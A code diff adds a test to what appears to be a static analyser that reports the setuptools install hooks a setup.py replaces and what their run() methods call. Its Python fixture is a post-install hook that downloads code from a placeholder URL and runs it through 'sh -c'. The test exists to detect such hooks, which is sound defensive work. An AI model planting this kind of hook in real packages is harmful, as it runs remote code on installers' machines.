@@ -686,6 +686,32 @@ it('reads the install-time setuptools commands a setup() call replaces, from a d
   expect(extractPythonFacts('setup(name="plain", version="1.0")\n', parser).installCommands).toBeUndefined();
 });
 
+it("names what a replacing class's run() calls, in functions nested in it too, and nothing for a class elsewhere", () => {
+  const facts = extractPythonFacts(
+    [
+      'import os, subprocess, urllib.request',
+      'from setuptools import setup',
+      'from setuptools.command.install import install',
+      'def wrapper():',
+      '    class PostInstall(install):',
+      '        def run(self):',
+      '            install.run(self)',
+      '            def fetch(url):',
+      '                return urllib.request.urlopen(url).read()',
+      '            subprocess.Popen(["sh", "-c", fetch("https://example.org/x")])',
+      '        def helper(self):',
+      '            os.system("not in run")',
+      '    return PostInstall',
+      'setup(name="p", cmdclass={"install": PostInstall, "develop": ImportedElsewhere})',
+    ].join('\n'),
+    parser,
+  );
+  expect(facts.installCommands).toEqual([
+    { command: 'install', handler: 'PostInstall', line: 14, column: 1, runs: ['setuptools.command.install.install.run', 'urllib.request.urlopen', 'subprocess.Popen'] },
+    { command: 'develop', handler: 'ImportedElsewhere', line: 14, column: 1 },
+  ]);
+});
+
 it("reads the server's own setup.py, which it never imports, for the commands it replaces, and not a vendored package's", () => {
   const files = tree({
     'server/main.py': 'print("hi")\n',
